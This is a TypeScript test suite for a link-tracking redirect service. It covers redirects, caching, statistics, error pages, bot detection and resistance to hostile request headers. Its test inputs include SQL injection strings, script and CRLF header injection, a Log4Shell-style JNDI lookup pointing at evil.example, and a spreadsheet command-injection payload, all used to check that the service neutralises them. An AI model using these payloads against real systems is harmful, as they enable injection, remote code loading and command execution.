import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { CHROME, START, type TestApp, testApp } from '../support/app.ts'
import { type Answer, until } from '../support/ask.ts'
import { onEveryEngine } from '../support/engines.ts'
import { readStore } from '../support/store.ts'

const PATHS = ['linkedin', 'calendly', 'portfolio', 'github', 'website', 'link'] as const
/** The requirement's headers for an answer that records. */
const UNCACHED = { 'cache-control': 'no-cache, no-store, must-revalidate', pragma: 'no-cache', expires: '0' }

onEveryEngine('a redirect', (engine) => {
  let app: TestApp
  let links = 0
  beforeAll(async () => {
    app = await testApp(engine)
  })
  afterAll(() => app.close())

  const given = (link: Record<string, unknown> = {}) => app.given.link({ tracking_id: `link-${++links}`, ...link })
  const change = (id: string, body: object) => app.patch(`/api/link-tracking/links/${id}`, body)
  const went = ({ status, headers }: Answer) => [status, headers.location]

  test.each([...PATHS.map((path) => [path, (id: string) => `/${path}?uuid=${id}`] as const), ['track', (id: string) => `/track/${id}`] as const])(
    'by /%s leads on, must not be cached, and is recorded with its path',
    async (path, url) => {
      const link = await given({ original_url: 'https://example.com/a?b=c#d' })
      const answer = await app.click(url(link.tracking_id), { referer: 'https://www.google.com/search?q=x' })
      expect(answer).toMatchObject({ status: 302, body: '', headers: { ...UNCACHED, location: 'https://example.com/a?b=c#d' } })
      const one = { clicks: 1, human_clicks: 1, machine_clicks: 0, unique_visitors: 1 }
      expect(await app.stats(link.tracking_id)).toEqual({
        tracking_id: link.tracking_id,
        ...one,
        by_day: [{ date: '2026-11-22', ...one }],
        by_click_source: [{ click_source: path, ...one }],
        by_referrer: [{ referrer: 'google.com', ...one }],
        recent: [
          {
            click_id: expect.stringMatching(/^[0-9a-f-]{36}$/),
            clicked_at: '2026-11-22T14:30:00.000Z',
            click_source: path,
            referrer_url: 'https://www.google.com/search?q=x',
            session_id: null,
            country: null,
            browser: 'Chrome',
            os: 'Windows',
            device: 'desktop',
            machine: false,
            machine_reason: null,
          },
        ],
      })
    },
  )

  test.each([
    ['a path that is not its own', (id: string) => `/calendly?uuid=${id}`],
    ['a slash at the end', (id: string) => `/linkedin/?uuid=${id}`],
    ['more in the query', (id: string) => `/linkedin?utm_source=x&uuid=${id}&a=b`],
    ['an escaped id', (id: string) => `/linkedin?uuid=%6${id.charCodeAt(0).toString(16)[1]}${id.slice(1)}`],
  ])('works with %s', async (_, url) => {
    const link = await given({ link_function: 'LinkedIn' })
    expect(went(await app.click(url(link.tracking_id)))).toEqual([302, 'https://example.com/'])
    expect((await app.stats(link.tracking_id)).clicks).toBe(1)
  })

  describe('where the link leads', () => {
    test.each([
      ['https://example.com', 'https://example.com/'],
      ['HTTPS://EXAMPLE.com:443/%7Ea/../b', 'https://example.com/b'],
      ['http://example.com:8080/?a=1&a=2#frag', 'http://example.com:8080/?a=1&a=2#frag'],
      ['https://bücher.example/straße?q=ü', 'https://xn--bcher-kva.example/stra%C3%9Fe?q=%C3%BC'],
      ['https://example.com/"<script>', 'https://example.com/%22%3Cscript%3E'],
      ['https://example.com/%0d%0aSet-Cookie:%20a=b', 'https://example.com/%0d%0aSet-Cookie:%20a=b'],
      ['http://127.1/', 'http://127.0.0.1/'],
      ['http://[::1]:3000/', 'http://[::1]:3000/'],
    ])('%s is sent as %s', async (original_url, location) => {
      const link = await given({ original_url })
      expect(link.original_url).toBe(original_url)
      const answer = await app.click(`/link?uuid=${link.tracking_id}`)
      expect(went(answer)).toEqual([302, location])
      expect(answer.headers['set-cookie']).toBeUndefined()
    })
  })

  describe('that leads nowhere', () => {
    const page = (answer: Answer) => [answer.status, answer.headers['content-type'], /<h1>(.*?)<\/h1>/.exec(String(answer.body))?.[1], answer.headers['cache-control']]

    test('is a page that says so: 404 for an id nobody made', async () => {
      expect(page(await app.click('/linkedin?uuid=nobody'))).toEqual([404, 'text/html; charset=utf-8', expect.any(String), 'no-store'])
      expect(page(await app.click('/track/nobody'))).toEqual([404, 'text/html; charset=utf-8', expect.any(String), 'no-store'])
    })

    test('410 for a link that is off, and back again at once', async () => {
      const { tracking_id: id } = await given()
      expect((await app.click(`/link?uuid=${id}`)).status).toBe(302)
      await change(id, { is_active: false })
      expect(page(await app.click(`/link?uuid=${id}`))).toEqual([410, 'text/html; charset=utf-8', 'This link is no longer active', 'no-store'])
      await change(id, { is_active: true })
      expect((await app.click(`/link?uuid=${id}`)).status).toBe(302)
      expect((await app.stats(id)).clicks).toBe(2)
    })

    test('410 from the moment in which it expires', async () => {
      const { tracking_id: id } = await given({ expires_at: '2026-11-22T14:31:00Z' })
      app.clock.at = START + 59_999
      expect((await app.click(`/link?uuid=${id}`)).status).toBe(302)
      app.clock.at = START + 60_000
      expect((await app.click(`/link?uuid=${id}`)).status).toBe(410)
      expect((await app.get(`/api/link-tracking/lookup/${id}`)).status).toBe(410)
      await change(id, { expires_at: '2026-11-22T15:00:00+00:00' })
      expect((await app.click(`/link?uuid=${id}`)).status).toBe(302)
      await change(id, { expires_at: null })
      app.clock.at = START + 365 * 86_400_000
      expect((await app.click(`/link?uuid=${id}`)).status).toBe(302)
      app.clock.at = START
    })

    test.each([
      '/linkedin', '/linkedin?', '/linkedin?uuid=', '/linkedin?uuid=a%20b', '/linkedin?uuid=a/b', '/linkedin?uuid=%00', '/linkedin?uuid=%E0%A4%A', '/linkedin?uuid=a&uuid=b', '/linkedin?uuid[]=a',
      '/linkedin?uuid=<script>alert(1)</script>', `/linkedin?uuid=${'x'.repeat(101)}`, '/linkedin?uuid=%C3%BCn%C3%AF', '/linkedin?UUID=link-1', '/track/a%2Fb', '/track/a%20b', `/track/${'x'.repeat(101)}`, "/track/'or'1'='1",
    ])('400 for %s', async (url) => {
      const answer = await app.click(url)
      expect(page(answer)).toEqual([400, 'text/html; charset=utf-8', 'This link is incomplete', 'no-store'])
      expect(String(answer.body)).not.toContain('alert')
    })

    test('shows nothing of the request, and runs nothing', async () => {
      const answer = await app.click('/linkedin?uuid=nobody&x=%3Cscript%3Ealert(1)%3C/script%3E', { referer: 'https://evil.example/<script>' })
      expect(String(answer.body)).not.toMatch(/nobody|alert|evil/)
      expect(answer.headers).toMatchObject({
        'content-security-policy': expect.stringMatching(/^default-src 'none'; style-src 'sha256-[^']+'; frame-ancestors 'none'; base-uri 'none'$/),
        'x-content-type-options': 'nosniff',
      })
    })

    test('goes to NOT_FOUND_URL where that is set, but not for an id that none can be', async () => {
      const sends = await testApp(engine, { env: { NOT_FOUND_URL: 'https://steveglen.com/404' } })
      const { tracking_id: id } = await sends.given.link()
      await sends.patch(`/api/link-tracking/links/${id}`, { is_active: false })
      for (const url of ['/linkedin?uuid=nobody', `/linkedin?uuid=${id}`, `/track/${id}`]) {
        expect(await sends.click(url)).toMatchObject({ status: 302, headers: { ...UNCACHED, location: 'https://steveglen.com/404' } })
      }
      expect((await sends.click('/linkedin?uuid=a%20b')).status).toBe(400)
      expect((await sends.stats(id)).clicks).toBe(0)
      await sends.close()
    })
  })

  test('takes a new destination at once', async () => {
    const { tracking_id: id } = await given()
    await app.click(`/link?uuid=${id}`)
    const { status, body } = await change(id, { original_url: 'https://example.org/new', unknown: 1, tracking_id: 'other' })
    expect([status, body]).toMatchObject([200, { tracking_id: id, original_url: 'https://example.org/new' }])
    expect(went(await app.click(`/link?uuid=${id}`))).toEqual([302, 'https://example.org/new'])
  })

  if (engine.name === 'postgres') {
    test('follows what another node makes and changes, within a second', async () => {
      const other = await app.neighbour()
      const { tracking_id: id } = await given()
      const visit = async () => went(await other.click(`/link?uuid=${id}`))[1]
      // Asked for before it was made, another id is remembered there as unknown.
      expect((await other.click('/link?uuid=later')).status).toBe(404)
      await until('the other node knows the link', async () => (await visit()) === 'https://example.com/', 1_000)
      await given({ tracking_id: 'later' })
      await until('an id once unknown is known', async () => (await other.click('/link?uuid=later')).status === 302, 1_000)
      await change(id, { original_url: 'https://example.org/' })
      await until('it knows the new destination', async () => (await visit()) === 'https://example.org/', 1_000)
      await change(id, { is_active: false })
      await until('it knows that it is off', async () => (await other.click(`/link?uuid=${id}`)).status === 410, 1_000)
      await other.close()
    })
  }

  describe('HEAD and OPTIONS', () => {
    test.each([...PATHS.map((path) => (id: string) => `/${path}?uuid=${id}`), (id: string) => `/track/${id}`])('record nothing (%#)', async (url) => {
      const { tracking_id: id } = await given()
      const before = await app.metric('waymark_events_total{family="links"}')
      const head = await app.ask('HEAD', url(id), { headers: { 'user-agent': CHROME } })
      expect(head).toMatchObject({ status: 302, body: '', headers: { ...UNCACHED, location: 'https://example.com/' } })
      const options = await app.ask('OPTIONS', url(id))
      expect([options.status, options.headers.allow]).toEqual([204, 'GET, HEAD, OPTIONS'])
      expect((await app.stats(id)).clicks).toBe(0)
      expect(await app.metric('waymark_events_total{family="links"}')).toBe(before)
    })
  })

  describe('told by machines', () => {
    test.each([
      [{ 'user-agent': 'curl/8.5.0' }, 'agent_tool'],
      [{ 'user-agent': 'LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)' }, 'link_preview'],
      [{ 'user-agent': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }, 'agent_bot'],
      [{ 'user-agent': '' }, 'agent_missing'],
      [{ 'sec-purpose': 'prefetch;prerender' }, 'prefetch'],
      [{ purpose: 'prefetch' }, 'prefetch'],
    ])('%j is counted beside people, as %s', async (headers, machine_reason) => {
      const { tracking_id: id } = await given()
      await app.click(`/link?uuid=${id}`)
      expect((await app.click(`/link?uuid=${id}`, headers as Record<string, string>)).status).toBe(302)
      expect(await app.stats(id)).toMatchObject({ clicks: 2, human_clicks: 1, machine_clicks: 1, recent: expect.arrayContaining([expect.objectContaining({ machine: true, machine_reason })]) })
    })
  })

  describe('with hostile headers', () => {
    const hostile: Record<string, string>[] = [
      { host: 'evil.example' },
      { host: "'; drop table events; --" },
      { host: 'a"b\\c<script>' },
      { referer: 'https://evil.example/%0d%0aSet-Cookie:a=b' },
      { referer: 'javascript:alert(1)' },
      { referer: '\x80\xff\xfe' },
      { referer: `https://example.com/${'x'.repeat(5_000)}` },
      { 'user-agent': '${jndi:ldap://evil.example/a}' },
      { 'user-agent': '\t' },
      { 'user-agent': `Mozilla/5.0 ${'('.repeat(6_000)}` },
      { 'user-agent': "=cmd|' /C calc'!A0" },
      { 'x-forwarded-for': '10.0.0.1, 10.0.0.2', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', forwarded: 'for=10.0.0.1' },
      { 'x-http-method-override': 'DELETE' },
      { 'cf-ipcountry': 'DE' },
      { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      { cookie: '__proto__=x; session=y' },
    ]
    test.each(hostile.map((headers) => [JSON.stringify(headers).slice(0, 60), headers] as const))('%s: it leads on, is recorded once, and nothing of them comes back', async (_, headers) => {
      const { tracking_id: id } = await given()
      const answer = await app.click(`/link?uuid=${id}`, headers)
      expect(went(answer)).toEqual([302, 'https://example.com/'])
      expect(Object.keys(answer.headers).sort()).toEqual(['cache-control', 'connection', 'content-length', 'date', 'expires', 'keep-alive', 'location', 'pragma', 'vary'])
      expect(await app.stats(id)).toMatchObject({ clicks: 1, recent: [{ country: null }] })
    })
  })

  test('stores address, agent, referrer, host and protocol, and the address only as a hash', async () => {
    const { tracking_id: id } = await given()
    await app.click(`/link?uuid=${id}`, { host: 'steve-glen.com', referer: 'https://indeed.com/' })
    await app.stop()
    const rows = await readStore(app.store, `select tracking_id, click_source, ip_address, user_agent, referrer_url, metadata from link_clicks where tracking_id = '${id}'`)
    expect(rows).toEqual([
      { tracking_id: id, click_source: 'link', ip_address: expect.stringMatching(/^[0-9a-f]{32}$/), user_agent: CHROME, referrer_url: 'https://indeed.com/', metadata: expect.any(String) },
    ])
    expect(JSON.parse(String(rows[0]?.metadata))).toEqual({ host: 'steve-glen.com', protocol: 'http' })
  })

  test('behind a proxy that ends TLS stores the scheme that the visitor used', async () => {
    const behind = await testApp(engine, { env: { TRUST_PROXY: '127.0.0.1' } })
    const { tracking_id: id } = await behind.given.link({ tracking_id: 'proxied' })
    await behind.click(`/link?uuid=${id}`, { host: 'steve-glen.com', 'x-forwarded-for': '198.51.100.1', 'x-forwarded-proto': 'https' })
    await behind.stop()
    const rows = await readStore(behind.store, `select metadata from link_clicks where tracking_id = '${id}'`)
    expect(rows.map(({ metadata }) => JSON.parse(String(metadata)))).toEqual([{ host: 'steve-glen.com', protocol: 'https' }])
    await behind.store.drop()
  })
})
